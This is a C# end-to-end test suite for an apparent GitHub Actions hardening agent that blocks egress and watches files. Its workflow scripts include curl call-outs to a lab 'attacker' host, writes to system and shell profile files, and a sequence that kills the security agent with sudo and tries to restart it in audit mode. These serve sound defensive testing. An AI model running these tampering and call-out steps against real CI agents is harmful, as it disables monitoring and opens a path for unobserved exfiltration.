using System.Text.Json;
using Sallyport.EndToEnd.Tests.Machine;
using Sallyport.Lab;

namespace Sallyport.EndToEnd.Tests;

/// <summary>The Action where less is protected than could be: because it was asked to, or because the machine cannot. It says so.</summary>
public sealed class ActionLimitsTests(MachineFixture fixture) : IClassFixture<MachineFixture>
{
    private const string Attacker = $"curl -sS --max-time 30 http://{LabAddresses.Attacker}";

    private static string Workflow(string inputs, string script) => $"""
        name: Limits
        on: push
        jobs:
          build:
            runs-on: ubuntu-24.04
            steps:
              - name: Harden Runner
                uses: step-security/harden-runner@rc
                with:
                  {inputs.ReplaceLineEndings("\n          ")}
              - name: Call out
                id: call
                run: |
                  {script.ReplaceLineEndings("\n          ")}
        """;

    [Theory]
    [InlineData("block", "failure", "error")]
    [InlineData("audit", "success", "warning")]
    public async Task Where_the_kernel_cannot_enforce_block_fails_and_audit_warns(string mode, string conclusion, string level)
    {
        // A folder that is no cgroup: programs cannot be attached there, as in the test of `run`.
        await fixture.Machine.ConfigureAsync("agent.yml", $"version: 1\ncgroupRoot: {RunnerMachine.Work}");
        try
        {
            _ = AssertUnprotected(await RunAsync(Workflow($"egress-policy: {mode}", $"{Attacker}/out || true")), mode, conclusion, level);
        }
        finally
        {
            await fixture.Machine.ConfigureOnDemandAsync();
        }
    }

    /// <summary>
    /// GitHub's slim runners are containers: root by sudo as on the others, but without what the kernel wants for its programs. There is no
    /// `container:` in the workflow, so nothing in a step's environment says so.
    /// </summary>
    [Theory]
    [InlineData("block", "failure", "error")]
    [InlineData("audit", "success", "warning")]
    public async Task Where_root_may_not_load_programs_block_fails_and_audit_warns(string mode, string conclusion, string level)
    {
        string workflow = Workflow($"egress-policy: {mode}\nallowed-endpoints: v4.test:80", $"{Attacker}/out || true");
        WorkflowRun control = await RunAsync(workflow);
        Assert.True(control.Report.InForce == (mode == "block" ? "enforcing" : "observing"), control.ToString());
        fixture.Machine.Reset(); // an agent that the job before has left has all rights
        fixture.Machine.Under = ["setpriv", "--bounding-set", "-bpf,-perfmon,-sys_admin,-net_admin,-sys_resource,-sys_ptrace"];
        try
        {
            string said = AssertUnprotected(await RunAsync(workflow), mode, conclusion, level);
            Assert.Contains("CAP_", said, StringComparison.Ordinal);
        }
        finally
        {
            fixture.Machine.Reset(); // and one that has none serves no later job
            fixture.Machine.Under = [];
        }
    }

    /// <summary>What the step says.</summary>
    private static string AssertUnprotected(WorkflowRun run, string mode, string conclusion, string level)
    {
        Assert.True(run.ConclusionOf() == conclusion, run.ToString());
        JsonElement pre = run.Step("Pre Harden Runner");
        Assert.Equal(conclusion, pre.GetProperty("conclusion").GetString());
        JsonElement said = Assert.Single(
            pre.GetProperty("annotations").EnumerateArray(), one => one.GetProperty("title").GetString() == "This job is not protected");
        Assert.Equal(level, said.GetProperty("level").GetString());
        string message = said.GetProperty("message").GetString()!;
        Assert.EndsWith("[cannot-enforce]", message, StringComparison.Ordinal);
        Assert.True(run.Traffic.Contains("/out ") == (mode == "audit"), run.ToString());
        Assert.Contains(
            "This job ran without protection", run.Step("Post Harden Runner").GetProperty("summary").GetString(), StringComparison.Ordinal);
        Assert.Empty(run.Reports);
        return message;
    }

    [Theory]
    [InlineData("", "allowed", true)]
    [InlineData("implicit: false\ndisable-file-monitoring: true", "refused", false)]
    public async Task What_is_implicit_and_files_are_left_out_where_the_inputs_say_so(string inputs, string verdict, bool isWatched)
    {
        const string Script = $"""
            echo changed > /etc/profile.d/left.sh 2> /dev/null || sudo -n sh -c 'echo changed > /etc/environment'
            echo x > "$HOME/.bashrc"
            curl -sS -o /dev/null --max-time 30 https://github.com/ || echo "curl says $?"
            curl -sS --max-time 30 http://v4.test/allowed
            {Attacker}/out || true
            """;
        WorkflowRun run = await RunAsync(Workflow($"egress-policy: block\nallowed-endpoints: v4.test:80\n{inputs}", Script));
        Assert.True(run.ConclusionOf() == "success", run.ToString());
        Assert.True(run.Traffic.Contains("/allowed ") && !run.Traffic.Contains("/out "), run.ToString());
        JobReport report = run.Report;
        Assert.Equal([verdict], report.Names.Where(row => JobReport.Text(row, "name") == "github.com" && JobReport.Text(row, "step") == "call")
            .Select(row => JobReport.Text(row, "verdict")).Distinct());
        bool isImplicit = verdict == "allowed";
        Assert.Equal(isImplicit, run.Traffic.Conversations.Any(one => one.ServerName == "github.com"));
        string summary = run.Step("Post Harden Runner").GetProperty("summary").GetString()!;
        Assert.Equal(!isImplicit, summary.Contains("nothing is implicit", StringComparison.Ordinal));
        Assert.Equal(isImplicit, summary.Contains("@github-actions", StringComparison.Ordinal));

        string files = report.Document.GetProperty("coverage").GetProperty("files").GetString()!;
        Assert.Equal(isWatched, files != "notObserved");
        Assert.Equal(isWatched, report.Document.GetProperty("files").GetArrayLength() > 0);
        Assert.Equal(!isWatched, summary.Contains("not observed: files", StringComparison.Ordinal));
    }

    /// <summary>
    /// The machine's service watches files of every job from its start, and a step does not end that; nor does an agent that takes over from
    /// one that was killed watch less than that one. It is said, in the step and in the summary.
    /// </summary>
    [Fact]
    public async Task Under_the_machines_own_service_files_are_watched_whatever_the_inputs_say()
    {
        await using AgentProcess agent = await fixture.Machine.ServeAsync("");
        using StartedRun started = Start(Workflow(
            "disable-file-monitoring: true",
            """
            first=$(sudo -n sh -c "basename /run/sallyport/jobs/*.json .json") # one that is killed takes a while to be gone
            touch $SIGNS/ready
            while [ ! -e $SIGNS/go ]; do sleep 0.05; done
            for i in $(seq 400); do ! sudo -n "$AGENT" job status | grep -v $first | grep -q observing || break; sleep 0.05; done
            echo y > "$HOME/.profile"
            """));
        await started.SignAsync("ready");
        await fixture.Machine.ShellAsync("kill -KILL \"$1\"", $"{started.Watcher()}");
        await File.WriteAllTextAsync(Path.Combine(started.Folder, "go"), "", TestContext.Current.CancellationToken);
        WorkflowRun run = await started.EndAsync();
        Assert.True(run.ConclusionOf() == "success", run.ToString());
        Assert.All(run.Reports, report => Assert.NotEqual("notObserved", report.Document.GetProperty("coverage").GetProperty("files").GetString()));
        Assert.Contains(run.Reports[^1].Files, row => row.ToString().Contains("/.profile", StringComparison.Ordinal));
        const string Title = "disable-file-monitoring does not hold here";
        Assert.Contains(run.Step("Pre Harden Runner").GetProperty("annotations").EnumerateArray(), one => one.GetProperty("title").GetString() == Title);
        Assert.Contains(Title, run.Step("Post Harden Runner").GetProperty("summary").GetString(), StringComparison.Ordinal);
        await fixture.Machine.ConfigureOnDemandAsync();
    }

    [Theory]
    [InlineData("self-hosted")]
    [InlineData("github-hosted")]
    public async Task Killed_by_the_job_it_leaves_no_way_out_and_the_report_says_so(string environment)
    {
        // The job is root by sudo, and knows the number from the agent's own state. Who asks first gets no other inputs for it.
        const string Script = $$"""
            pid=$(sudo -n sh -c "sed -n 's/.*\"agentPid\": *\([0-9]*\).*/\1/p' /run/sallyport/jobs/*.json")
            guardian=$(sudo -n sh -c "cat /run/sallyport/jobs/*.json | tr -d ' \n' | sed -n 's/.*\"guardian\":{[^}]*\"pid\":\([0-9]*\).*/\1/p'")
            first=$(sudo -n sh -c "basename /run/sallyport/jobs/*.json .json") # one that is killed takes a while to be gone
            cat /proc/$pid/oom_score_adj > "$SIGNS/agent-goes"
            cat /proc/$guardian/oom_score_adj > "$SIGNS/guardian-goes"
            cat /proc/self/oom_score_adj > "$SIGNS/step-goes"
            {{Attacker}}/before || true
            # What is not in a sealed frame is lost with the agent.
            for i in $(seq 300); do sudo -n sh -c 'zstdcat /var/lib/sallyport/spool/*/recording.ndjson.zst 2> /dev/null' | grep -q '"refused"' && break; sleep 0.1; done
            sudo -n kill -KILL $pid
            echo '{"egress-policy":"audit","disable-file-monitoring":"true"}' | sudo -n "$AGENT" job start --inputs - || true
            {{Attacker}}/at-once || true
            for i in $(seq 400); do
              ! sudo -n "$AGENT" job status | grep -v $first | grep -qE 'enforcing|observing' || break
              {{Attacker}}/between || true
            done
            {{Attacker}}/after || true
            curl -sS --max-time 30 http://v4.test/allowed
            """;
        using StartedRun started = Start(
            Workflow("egress-policy: block\nallowed-endpoints: v4.test:80\nfail-on: new", Script),
            "--runner-environment", environment, "--server-url", "https://github.com");
        WorkflowRun run = await started.EndAsync();
        Assert.Equal(0, run.Traffic.ConnectionsTo(LabAddresses.Attacker));
        Assert.True(run.Traffic.Contains("/allowed "), run.ToString());
        JobReport last = run.Reports[^1];
        Assert.Equal("enforcing", last.InForce);
        Assert.NotEqual("notObserved", last.Document.GetProperty("coverage").GetProperty("files").GetString());
        Assert.False(last.IsComplete, run.ToString());
        Assert.True(last.Verdicts("call", LabAddresses.Attacker) is ["refused"], run.ToString());
        string summary = run.Step("Post Harden Runner").GetProperty("summary").GetString()!;
        Assert.Contains("**incomplete**", summary, StringComparison.Ordinal);
        Assert.Contains("observation-gap", summary, StringComparison.Ordinal);

        // Where the first part is, and that nobody can say from the second alone that nothing was refused.
        JsonElement lost = Assert.Single(last.Findings, finding => JobReport.Text(finding, "id") == "observation-lost");
        Assert.Equal($"/var/lib/sallyport/jobs/{run.Reports[0].Id}/report.json", lost.GetProperty("evidence").GetProperty("report").GetString());
        Assert.Equal(["refused"], run.Reports[0].Verdicts("call", LabAddresses.Attacker));
        Assert.Equal("failure", run.Step("Post Harden Runner").GetProperty("conclusion").GetString());
        Assert.Contains("the agent was killed", run.TextOf("Post Harden Runner"), StringComparison.Ordinal);

        // Steps are marked to go first when memory runs out, and the agent, started by one, is not.
        Assert.Equal(MayGoLater ? "-900" : "0", await ScoreAsync(started, "agent-goes"));
        Assert.Equal(MayGoLater ? "-1000" : "0", await ScoreAsync(started, "guardian-goes"));
        Assert.Equal("500", await ScoreAsync(started, "step-goes"));
    }

    /// <summary>CAP_SYS_RESOURCE, of the test and so of the machine that it makes: a score below one's own takes it.</summary>
    private static bool MayGoLater => (Convert.ToUInt64(
        File.ReadLines("/proc/self/status").First(line => line.StartsWith("CapEff:", StringComparison.Ordinal))[7..].Trim(), 16) & (1UL << 24)) != 0;

    private static async Task<string> ScoreAsync(StartedRun started, string whose) =>
        (await File.ReadAllTextAsync(Path.Combine(started.Folder, whose), CancellationToken.None)).Trim();

    private async Task<WorkflowRun> RunAsync(string workflow)
    {
        using StartedRun run = Start(workflow);
        return await run.EndAsync();
    }

    private StartedRun Start(string workflow, params string[] options)
    {
        fixture.Machine.Network.World.Clear();
        return fixture.Machine.Start(workflow, ["--user", RunnerMachine.User, .. options]);
    }
}
